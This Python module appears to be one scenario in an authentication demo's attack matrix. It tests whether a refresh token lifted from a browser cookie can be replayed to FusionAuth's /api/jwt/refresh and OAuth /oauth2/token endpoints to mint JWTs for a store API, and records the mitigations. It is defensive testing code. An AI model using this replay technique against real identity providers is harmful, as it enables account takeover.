"""Stolen refresh token sent straight to the IdP.

Threat: the attacker got the victim's refresh token (from the cookie jar, the wire, or -- native
mode -- the `/api/login` response body that page script sees, scenario 3) and, from their own
machine, asks the IdP for fresh access tokens: FusionAuth's `POST /api/jwt/refresh
{"refreshToken": ...}` and OAuth's `POST /oauth2/token grant_type=refresh_token`.
Stolen: the refresh token; it mints new JWTs for the victim until it expires or its family is
revoked -- far longer than one JWT.
What stops it: a confidential client (the token endpoint demands the client secret, which only
the app backend has); DPoP binding (scenario 8); rotation + reuse detection ends the attacker's
chain at the victim's next refresh (scenario 5).
Does not apply to the implicit modes (no refresh tokens) nor to bff (the refresh token never
leaves the backend).
"""
from __future__ import annotations

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import BACKEND, IMPLICIT, describe, short
from authgate_demo.stack import STORE_ID

ID = "04-stolen-refresh-token"
TITLE = "Stolen refresh token sent directly to /api/jwt/refresh and /oauth2/token"


def applies(mode: str) -> str | None:
    if mode in IMPLICIT:
        return "the implicit grant issues no refresh token"
    if mode == "bff":
        return "the refresh token never leaves the BFF's database: there is nothing in the browser to steal"
    return None


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    page = await ctx.victim()
    if ctx.mode == "code-pkce-cookie":
        token = (await ctx.cookies(page.context, "store")).get("app_refresh")
        where = "the Store's HttpOnly app_refresh cookie"
    else:
        token = (await ctx.cookies(page.context, "idp")).get("refresh_token")
        where = "the IdP's HttpOnly refresh_token cookie"
    if not token:
        return blocked("no refresh token in the browser", [f"nothing in {where}"])
    evidence = [f"refresh token {short(token)} from {where} (cookie jar / wire)"]
    worked: list[str] = []
    current = token

    r = await ctx.attack("POST", "idp", "/api/jwt/refresh", json={"refreshToken": current})
    evidence.append(f"FusionAuth API: {describe(r)}")
    if r.status_code == 200:
        jwt = r.json()["token"]
        current = r.json().get("refreshToken") or current
        s = await ctx.attack("GET", "store", "/api/load-shopping-cart", headers={"Authorization": f"Bearer {jwt}"})
        evidence.append(f"  minted JWT {short(jwt)} replayed to the Store: {describe(s)}")
        if s.status_code == 200:
            worked.append("/api/jwt/refresh")

    form = {"grant_type": "refresh_token", "refresh_token": current, "client_id": STORE_ID}
    r = await ctx.attack("POST", "idp", "/oauth2/token", data=form)
    if r.status_code == 404:
        evidence.append("OAuth: /oauth2/token is not there yet (404)")
    else:
        evidence.append(f"OAuth, no client secret: {describe(r)}")
    if r.status_code == 200:
        jwt = r.json()["access_token"]
        s = await ctx.attack("GET", "store", "/api/load-shopping-cart", headers={"Authorization": f"Bearer {jwt}"})
        evidence.append(f"  minted JWT {short(jwt)} replayed to the Store: {describe(s)}")
        if s.status_code == 200:
            worked.append("/oauth2/token")

    if not worked:
        return blocked("confidential client: the token endpoint needs the client secret" if ctx.mode in BACKEND
                       else "the IdP refused the stolen refresh token", evidence, stolen=f"refresh token ({where})")
    mitigation = ("none for a public client without DPoP: the IdP cannot tell the attacker from the app; "
                  "rotation + reuse detection ends the chain at the victim's next refresh (scenario 5)")
    if ctx.mode == "code-pkce-cookie":
        mitigation = ("/oauth2/token refused it (confidential client), but FusionAuth's /api/jwt/refresh asks for "
                      "no client authentication and accepted a code-grant refresh token -- IdP gap, reported")
    return succeeded(stolen=f"the refresh token ({where})",
                     usable_for="new JWTs on demand until the refresh token expires (24 h here) or its family is revoked",
                     mitigation=mitigation, evidence=evidence + [f"worked via {', '.join(worked)}"])
